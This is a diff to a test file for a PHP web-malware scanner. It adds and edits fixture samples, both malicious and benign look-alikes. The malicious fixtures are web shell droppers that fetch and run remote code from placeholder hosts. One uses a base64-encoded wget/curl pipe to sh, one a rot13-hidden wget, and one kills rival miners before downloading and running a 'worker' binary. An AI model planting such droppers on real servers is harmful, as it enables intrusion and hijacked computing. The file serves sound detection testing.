@@ -36,9 +36,9 @@ const MALICIOUS: [string, string, string][] = [
   ['a command given a base64-decoded literal', '/var/www/html/d.php', `<?php shell_exec(base64_decode("${b64('(wget -qO- http://dl.example.invalid/sh || curl -s http://dl.example.invalid/sh) | sh -s x')}")); echo 'ok'; ?>\n`],
   ['a command given a rot13-decoded literal', '/var/www/html/e.php', `<?php system(str_rot13('jtrg -d uggc://qy.rknzcyr.vainyvq/o -B /gzc/o'));\n`],
   [
-    'a page downloading a program, making it executable and running it from its folder',
+    'a page killing rival miners, downloading a program from a bare address, making it executable and running it from its folder',
     '/var/www/html/f.php',
-    `<?php\nfunction get($u, $to) { $ch = curl_init($u); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); $d = curl_exec($ch); if (!$d) $d = @file_get_contents($u); file_put_contents('./' . $to, $d); }\nfunction run($c) { ob_start(); @system($c); return ob_get_clean(); }\nget("http://dl.example.invalid/worker", "worker");\necho run("chmod +x worker && ./worker");\n`,
+    `<?php\nfunction get($u, $to) { $ch = curl_init($u); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); $d = curl_exec($ch); if (!$d) $d = @file_get_contents($u); file_put_contents('./' . $to, $d); }\nfunction run($c) { ob_start(); @system($c); return ob_get_clean(); }\nrun("pkill -9 -f xmr");\nget("http://192.0.2.10/worker", "worker");\necho run("chmod +x worker && ./worker");\n`,
   ],
   [
     'a class decrypting the pieces of a posted command with a public key and running the text with eval',
@@ -124,6 +124,16 @@ const LOOKALIKES: [string, string, string][] = [
     `<?php\n$c = file_get_contents(__DIR__ . '/wp-config.php');\npreg_match("/define\\\\(\\\\s*'DB_USER',\\\\s*'([^']*)'/", $c, $u);\npreg_match("/define\\\\(\\\\s*'DB_PASSWORD',\\\\s*'([^']*)'/", $c, $p);\n$db = new mysqli('localhost', $u[1], $p[1]);\nforeach ($db->query('SHOW TABLES') as $row) echo $row[0], "\\n";\n`,
   ],
   [
+    'a setup page downloading a PDF tool over https, making it executable and asking its version (red team S37A-19)',
+    '/var/www/html/setup-pdf.php',
+    `<?php\nif (PHP_SAPI !== 'cli') exit;\nfile_put_contents(__DIR__ . '/wkhtmltopdf', file_get_contents('https://downloads.example.com/wkhtmltopdf-0.12.6-amd64'));\necho shell_exec('cd ' . escapeshellarg(__DIR__) . ' && chmod 0755 wkhtmltopdf && ./wkhtmltopdf --version 2>&1');\n`,
+  ],
+  [
+    'a white-label plugin hiding itself from clients when its setting says so, and a database class calling $pdo->exec on a decoded schema (S37A-5, -14)',
+    '/var/www/html/wp-content/plugins/agency/agency.php',
+    `<?php\n/*\nPlugin Name: Agency Tools\n*/\nadd_filter('all_plugins', function ($plugins) { if (get_option('agency_client_mode')) { $me = plugin_basename(__FILE__); unset($plugins[$me]); } return $plugins; });\nfunction agency_install(PDO $pdo) { $pdo->exec(gzinflate(base64_decode('${Buffer.from('CREATE TABLE t (id INT)').toString('base64')}'))); }\n`,
+  ],
+  [
     'a pager working out an offset with arithmetic in an index',
     '/var/www/html/pager.php',
     `<?php\n$rows = range(1, 100);\n$page = max(1, (int) ($_GET['p'] ?? 1));\necho $rows[($page - 1) * 10] . ' to ' . $rows[(($page - 1) * 10) + 9];\n`,
@@ -145,5 +155,5 @@ describe('scan: the techniques of held-out set H18 (session 37)', () => {
       assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 12));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 14));
 });
